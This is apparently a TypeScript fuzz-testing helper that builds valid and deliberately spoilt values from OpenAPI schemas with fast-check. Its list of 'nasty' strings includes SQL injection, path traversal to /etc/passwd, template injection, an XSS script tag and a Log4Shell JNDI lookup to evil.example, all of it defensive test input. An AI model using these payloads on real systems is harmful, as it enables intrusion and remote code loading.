import fc from 'fast-check';
import type { ApiDocument, Schema } from './openapi.ts';

/** Levels of a schema that are followed; below, any JSON stands. */
const DEPTH_MAX = 6;
/** Longest made text: past every bound of the API but a password's would only cost time. */
const TEXT_MAX = 400;
const ITEMS_MAX = 4;

/** Values that the schema of a document allows. */
export function validOf(document: ApiDocument, schema: Schema, depth = 0): fc.Arbitrary<unknown> {
  const resolved = document.resolve(schema);
  if (depth > DEPTH_MAX) return fc.jsonValue({ maxDepth: 1 });
  const inner = (one: unknown): fc.Arbitrary<unknown> => validOf(document, one as Schema, depth + 1);
  if ('const' in resolved) return fc.constant(resolved['const']);
  if (Array.isArray(resolved['enum'])) return fc.constantFrom(...resolved['enum']);
  const choices = (resolved['anyOf'] ?? resolved['oneOf']) as readonly unknown[] | undefined;
  if (choices !== undefined) return fc.oneof(...choices.map(inner));
  const type = Array.isArray(resolved['type']) ? resolved['type'][0] : resolved['type'];
  switch (type) {
    case 'string':
      return textOf(resolved);
    case 'integer':
    case 'number':
      return numberOf(resolved, type === 'integer');
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array':
      return fc.array(inner(resolved['items'] ?? {}), {
        minLength: Number(resolved['minItems'] ?? 0),
        maxLength: Math.min(ITEMS_MAX, Number(resolved['maxItems'] ?? ITEMS_MAX)),
      });
    case 'object':
      return objectOf(resolved, inner);
    default:
      return fc.jsonValue({ maxDepth: 3 });
  }
}

function textOf(schema: Schema): fc.Arbitrary<unknown> {
  switch (schema['format']) {
    case 'uuid':
      return fc.uuid();
    case 'email':
      return fc.emailAddress();
    case 'date-time':
      return fc
        .date({ noInvalidDate: true, min: new Date('1970-01-01'), max: new Date('2100-01-01') })
        .map((date) => date.toISOString());
    case 'uri':
      return fc.webUrl();
    default:
  }
  if (typeof schema['pattern'] === 'string') return fc.stringMatching(new RegExp(schema['pattern']));
  return fc.string({
    unit: 'grapheme',
    minLength: Number(schema['minLength'] ?? 0),
    maxLength: Math.min(TEXT_MAX, Number(schema['maxLength'] ?? TEXT_MAX)),
  });
}

function numberOf(schema: Schema, isWhole: boolean): fc.Arbitrary<unknown> {
  const min = Number(schema['minimum'] ?? -1_000_000);
  const max = Number(schema['maximum'] ?? 1_000_000);
  return isWhole ? fc.integer({ min, max }) : fc.double({ min, max, noNaN: true });
}

function objectOf(schema: Schema, inner: (one: unknown) => fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  const properties = (schema['properties'] ?? {}) as Readonly<Record<string, unknown>>;
  const members = Object.fromEntries(Object.entries(properties).map(([name, one]) => [name, inner(one)]));
  return fc.record(members, { requiredKeys: (schema['required'] ?? []) as string[] });
}

/** Text that programs stumble over. */
const NASTY = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\ufeff',
  '\u202e',
  "' or 1=1 --",
  '../../etc/passwd',
  '%00',
  '{{7*7}}',
  ['$', '{jndi:ldap://evil.example}'].join(''),
  '<script>alert(1)</script>',
  '9'.repeat(400),
  'x'.repeat(70_000),
  '0000-00-00T00:00:00Z',
  '275760-09-13T00:00:00.001Z',
  '00000000-0000-0000-0000-000000000000',
  'NaN',
  'null',
] as const;

const NASTY_NUMBERS = [-1, 0, 1.5, -0, 1e21, 2 ** 53, 2 ** 31, 2 ** 63, -1e308, 5e-324] as const;

/** Any value, with a liking for those that programs stumble over. */
export const nasty = (): fc.Arbitrary<unknown> =>
  fc.oneof(
    fc.constantFrom<unknown>(...NASTY),
    fc.constantFrom<unknown>(...NASTY_NUMBERS),
    fc.jsonValue({ maxDepth: 4 }),
    fc.constant(nested(200)),
  );

/** As text, for paths and queries. */
export const nastyText = (): fc.Arbitrary<string> =>
  fc
    .oneof(
      fc.constantFrom(...NASTY.filter((text) => text.length < 1_000)),
      fc.string({ unit: 'binary', maxLength: 60 }),
    )
    .map(
      // A lone surrogate cannot be written into an address.
      (text) => text.toWellFormed(),
    );

function nested(levels: number): unknown {
  let value: unknown = 1;
  for (let level = 0; level < levels; level += 1) value = level % 2 === 0 ? [value] : { a: value };
  return value;
}

/** A valid object with one member changed to something else, one added or one left out; otherwise anything. */
export function spoilt(valid: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  const changed = fc
    .tuple(valid, fc.nat(), nasty(), fc.constantFrom('change', 'add', 'drop'))
    .map(([value, at, bad, how]) => {
      if (typeof value !== 'object' || value === null || Array.isArray(value)) return bad;
      const names = Object.keys(value);
      const name = names[at % Math.max(1, names.length)] ?? 'added';
      if (how === 'drop') return Object.fromEntries(Object.entries(value).filter(([own]) => own !== name));
      return { ...value, [how === 'add' ? `added${at}` : name]: bad };
    });
  return fc.oneof({ weight: 4, arbitrary: changed }, { weight: 1, arbitrary: nasty() });
}
